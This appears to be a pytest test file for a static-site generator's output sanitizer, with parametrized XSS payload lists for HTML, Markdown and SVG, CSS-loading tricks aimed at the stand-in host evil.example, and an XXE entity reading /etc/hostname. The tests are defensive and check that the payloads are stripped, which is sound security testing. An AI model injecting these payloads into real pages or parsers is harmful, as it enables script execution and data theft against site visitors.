"""Output is data: whatever it holds, nothing of it runs on a page or in a feed reader."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.errors import BuildFailed
from generator.model import Bundle
from generator.render.outputs import RENDERERS
from generator.render.sanitize import clean_feed
from generator.render.styles import harmless_style
from generator.render.svg import safe_svg

from .rendering import render_post
from .test_outputs import CELL, FIGURE, encoded, page

HTML_ATTACKS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<img src=x onerror=steal()>",
    "<img src='x' onerror='steal()' style='x'>",
    "<svg onload=steal()><script>steal()</script></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=steal()></style></mglyph></mtext></math>",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data=javascript:steal()></object><embed src=javascript:steal()>",
    "<a href=' java&#x09;script:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<form action=javascript:steal()><button formaction=javascript:steal()>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:steal()'><base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<div style='background: url(//evil.example/steal)'>x</div>",
    "<div style='background: u\\72l(//evil.example/steal)'>x</div>",
    "<div style='position: fixed; inset: 0'>x</div>",
    "<style>@import '//evil.example/steal';</style>x",
    "<table id=T_1><tr><td id=T_1_a>x</td></tr></table>"
    "<style>#T_1_a {background: url(//evil.example/steal)}</style>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>x</noscript>",
    "<template><img src=x onerror=steal()></template>",
    "<!--><img src=x onerror=steal()>-->x",
    "<video src=javascript:steal() onplay=steal()></video>",
    "<audio><source src=x onerror=steal()></audio>",
    "<p id=content class='skip toc'>x</p>",
    "<img srcset='//evil.example/steal 1x' src=''>",
    "<details ontoggle=steal() open>x</details>",
    "<input autofocus onfocus=steal()>",
    "<img src='data:image/svg+xml;base64,"
    + encoded(b'<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1" onload="steal()"/>')
    + "'>",
]


@pytest.mark.parametrize("html", HTML_ATTACKS)
def test_html_that_attacks(html: str) -> None:
    """Nothing of it runs, loads from elsewhere, covers the page or takes the page's ids."""
    rendered = render_post(CELL, [[Bundle({"text/html": html})]])
    output = rendered.body.partition('<div class="output">')[2]
    for shown in (output, rendered.feed_body):
        for gone in ("<script", "onerror", "javascript:", "evil.example", "<iframe", "<form"):
            assert gone not in shown.lower()
        assert not re.search(r"<[^>]*\s(?:on\w+|id|action)=", shown)
        assert "fixed" not in shown
        assert "skip" not in shown
    assert not any(b"steal" in file.content for file in rendered.files)


@pytest.mark.parametrize("mime", ["text/markdown", "text/latex"])
@pytest.mark.parametrize("html", HTML_ATTACKS)
def test_html_in_markdown_that_attacks(html: str, mime: str) -> None:
    """Markdown may hold HTML, in lines of its own and inside a line: it is data, too."""
    for text in (html, f"$x$ and {html} in a line", f"$x$\n\n- {html}\n"):
        rendered = render_post(CELL, [[Bundle({mime: text})]])
        output = rendered.body.partition('<div class="output">')[2]
        assert not re.search(r"<[^>]*\s(?:on\w+|action|srcdoc)=", output)
        for gone in ("<script", "<iframe", "<form", "<meta", "<base", "<link", "<object", "<svg"):
            assert gone not in output.lower()
        assert not re.search(r"<[^>]*javascript:", output.lower())
        # An address may be a link, which loads nothing by itself.
        assert not re.search(r"<(?!a )[^>]*evil\.example", output.lower())


def test_harmless_html_in_markdown_stays() -> None:
    """Line ends, indices, tasks, tables, and blocks that fold."""
    text = "H<sub>2</sub>O<br>x\n\n- [x] done\n\n<details>\n<summary>more</summary>y</details>\n"
    body = render_post(CELL, [[Bundle({"text/markdown": text})]]).body
    assert "H<sub>2</sub>O<br>x" in body
    assert 'checked="checked"' in body
    assert "<details>\n<summary>more</summary>y</details>" in body


XHTML = "xmlns='http://www.w3.org/1999/xhtml'"
SVG_ATTACKS = [
    "<script>steal()</script>",
    f"<script {XHTML}>steal()</script>",
    "<g onclick='steal()'/>",
    "<a xlink:href='javascript:steal()'><rect/></a>",
    "<a href='&#106;avascript:steal()'><rect/></a>",
    "<image href='https://evil.example/steal.png'/>",
    "<image xlink:href='data:image/svg+xml;base64,c3RlYWw='/>",
    "<use href='https://evil.example/x.svg#steal'/>",
    "<rect fill='url(https://evil.example/steal#a)'/>",
    "<rect style='fill: url(\"//evil.example/steal\")'/>",
    "<rect style='fill: u\\72l(//evil.example/steal)'/>",
    "<style>@import url(//evil.example/steal.css);</style>",
    "<style>rect { fill: url(//evil.example/steal) }</style>",
    f"<foreignObject><body {XHTML}><script>steal()</script></body></foreignObject>",
    f"<foreignObject><iframe {XHTML} src='javascript:steal()'/></foreignObject>",
    "<a><set attributeName='href' to='javascript:steal()'/></a>",
    "<animate attributeName='onload' values='steal()'/>",
    "<handler xmlns='http://www.w3.org/2001/xml-events'>steal()</handler>",
    "<?xml-stylesheet href='//evil.example/steal.css'?>",
    "<g xml:base='https://evil.example/steal/'/>",
    "<metadata>steal</metadata>",
    "<!-- steal -->",
]


@pytest.mark.parametrize("attack", SVG_ATTACKS)
@pytest.mark.parametrize("by_matplotlib", [False, True])
def test_svg_that_attacks(attack: str, by_matplotlib: bool) -> None:
    """Neither a drawing in a file nor one in the page runs anything, or loads it."""
    content = attack + "<path d='M 0 0'/>"
    figure = FIGURE.format(content)
    text = figure if by_matplotlib else figure.replace('id="figure_1"', "")
    rendered = render_post(CELL, [[Bundle({"image/svg+xml": text})]])
    everything = (
        rendered.body + rendered.feed_body + "".join(f.content.decode() for f in rendered.files)
    )
    assert "steal" not in everything
    assert "evil.example" not in everything
    assert "M 0 0" in everything


def test_entities_of_an_svg_are_not_read() -> None:
    """Neither a file of this machine nor a billion laughs."""
    doctype = '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    text = doctype + FIGURE.format("<text>&x;</text>")
    assert "<text/>" in safe_svg(text).decode()


def test_html_that_the_author_trusts_is_published_as_it_is() -> None:
    """`trusted: [html]`: on the page, and never in the feed."""
    html = "<canvas id=c></canvas><script>draw()</script>"
    text = "---\ntitle: t\ndate: 2022-07-08\ncategory: c\ntrusted: [html]\n---\n" + CELL
    rendered = render_post(text, [[Bundle({"text/html": html})]])
    assert html in rendered.body
    assert "draw" not in rendered.feed_body
    assert "draw" not in page(Bundle({"text/html": html}))


@pytest.mark.parametrize(
    ("css", "kept"),
    [
        ("margin: 1px 2px", "margin: 1px 2px"),
        ("margin: 0 -99px; padding: 1px", "padding: 1px"),
        ("margin-top: calc(1px - 9px)", ""),
        ("display: block; display: contents", "display: block"),
        ("position: fixed; inset: 0", ""),
        ("width: expression(steal())", ""),
        ("background: url(x)", ""),
        ("background: image-set('x' 1x)", ""),
        ("width: 1px/**/", ""),
        ("COLOR: RGB(1 2 3)", "color: RGB(1 2 3)"),
        ("color", ""),
    ],
)
def test_what_a_style_may_do(css: str, kept: str) -> None:
    """Shape its box where that stands: not cover what is around it, nor load anything."""
    assert harmless_style(css) == kept


@pytest.mark.filterwarnings("error::pytest.PytestUnraisableExceptionWarning")
def test_what_is_no_address_leads_nowhere_in_a_feed() -> None:
    """The text of such a link stays. `http://[` begins an IPv6 address that never ends."""
    html = '<a href="http://[">text</a><img src="//[" alt="a picture">'
    assert clean_feed(html, "https://example.org/a/") == '<a>text</a><img alt="a picture">'


MIME = st.sampled_from([*RENDERERS, "application/vnd.plotly.v1+json",
    "application/vnd.vegalite.v5+json", "application/vnd.jupyter.widget-view+json"])  # fmt: skip
PIECES = st.sampled_from(
    """
    <script>x()</script> <svg xmlns="http://www.w3.org/2000/svg"> </svg> <table> <tr> <td> <th
    colspan=3> </table> <style>#a{b:c}</style> <img src= data:image/png;base64, iVBORw0KGgo= > {"a":
    [1] } $x$ \\[ ** # <p style="color: red"> <math> </math> <!-- --> <![CDATA[ ]]> &lt; &#0; \x00
    \ud7ff 가 Plotly.newPlot("a", vega })({ <audio src= <source http://[ id="figure_1" viewBox="0"
    """.split()
)


@given(st.dictionaries(MIME, st.lists(PIECES | st.text(max_size=8), max_size=12).map(" ".join)))
def test_no_bundle_breaks_the_renderer(data: dict[str, str]) -> None:
    """Whatever an output holds becomes HTML or an author's error; no script gets through."""
    try:
        rendered = render_post(CELL, [[Bundle(data)]])
    except BuildFailed:
        return
    assert "<script" not in rendered.body.lower()
    assert "<script" not in rendered.feed_body.lower()
